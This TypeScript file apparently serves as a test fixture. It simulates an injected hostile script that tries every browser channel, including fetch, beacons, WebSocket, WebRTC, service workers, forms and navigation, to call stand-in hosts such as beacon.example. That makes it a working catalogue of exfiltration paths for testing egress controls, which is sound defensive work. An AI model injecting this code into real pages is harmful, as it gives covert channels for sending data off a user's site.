/**
 * What a hostile script does in a page of ours once it runs there: it calls out in every way a script
 * has, by name and by address. Sent into the page as text, so it uses nothing but the page.
 * @param label part of each name that is looked up, so that a frame says who sent it
 */
export function callOut(label: string): void {
  const targets = (way: string): string[] => [
    `//${way}.${label}.beacon.example/`,
    `//192.0.2.${way.length}/${label}/${way}`,
  ]
  const attempt = (what: () => unknown): void => {
    try {
      const tried = what()
      if (tried instanceof Promise) tried.catch(() => {})
    } catch {
      // One way less; the next one.
    }
  }
  const element = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) {
      attempt(() => made.setAttribute(name, value))
    }
    attempt(() => document.head.append(made))
    return made
  }
  const rels = [
    'dns-prefetch',
    'preconnect',
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'stylesheet',
    'icon',
    'manifest',
    'next',
    'pingback',
  ]
  for (const rel of rels) {
    for (const url of targets(rel)) element('link', { rel, href: `http:${url}`, as: 'image' })
  }
  const loading: Readonly<Record<string, string>> = {
    img: 'src',
    iframe: 'src',
    embed: 'src',
    object: 'data',
    video: 'src',
    audio: 'src',
    script: 'src',
    track: 'src',
    source: 'src',
    frame: 'src',
  }
  for (const [tag, attribute] of Object.entries(loading)) {
    for (const url of targets(tag)) element(tag, { [attribute]: `http:${url}` })
  }
  const asking: Readonly<Record<string, (url: string) => unknown>> = {
    fetch: (url) => fetch(`http:${url}`, { mode: 'no-cors' }),
    request: (url) => {
      const request = new XMLHttpRequest()
      request.open('GET', `http:${url}`)
      request.send()
    },
    beacon: (url) => navigator.sendBeacon(`http:${url}`, 'x'),
    socket: (url) => new WebSocket(`ws:${url}`),
    events: (url) => new EventSource(`http:${url}`),
    transport: (url) => new WebTransport(`https:${url}`),
    font: (url) => new FontFace('called', `url(http:${url})`).load(),
    module: (url) => import(`http:${url}`),
    shared: (url) => new SharedWorker(`http:${url}`),
    service: (url) => navigator.serviceWorker.register(`http:${url}`),
    cache: async (url) => (await caches.open('x')).add(`http:${url}`),
    payment: (url) => new PaymentRequest([{ supportedMethods: `https:${url}` }], {} as never),
    peer: async (url) => {
      const { host } = new URL(`http:${url}`)
      const urls = [`stun:${host}:3478`, `turn:${host}:3478?transport=tcp`]
      const peer = new RTCPeerConnection({
        iceServers: urls.map((one) => ({ urls: one, username: 'x', credential: 'x' })),
      })
      peer.createDataChannel('')
      await peer.setLocalDescription(await peer.createOffer())
    },
    sheet: (url) => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(
        `@font-face{font-family:called;src:url(http:${url}f)} html{font-family:called;background:url(http:${url}b)}`,
      )
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    },
    rules: (url) => {
      const rules = element('script', { type: 'speculationrules' })
      rules.textContent = `{"prefetch":[{"source":"list","urls":["http:${url}"]}]}`
      document.head.append(rules)
    },
    picture: (url) => {
      document.body.style.backgroundImage = `url(http:${url})`
    },
    link: (url) => element('a', { href: `http:${url}`, ping: `http:${url}` }).click(),
    window: (url) => open(`http:${url}`),
    form: (url) =>
      (element('form', { action: `http:${url}`, method: 'post' }) as HTMLFormElement).submit(),
    address: (url) => {
      location.href = `http:${url}`
    },
  }
  for (const [way, ask] of Object.entries(asking)) {
    for (const url of targets(way)) attempt(() => ask(url))
  }
}
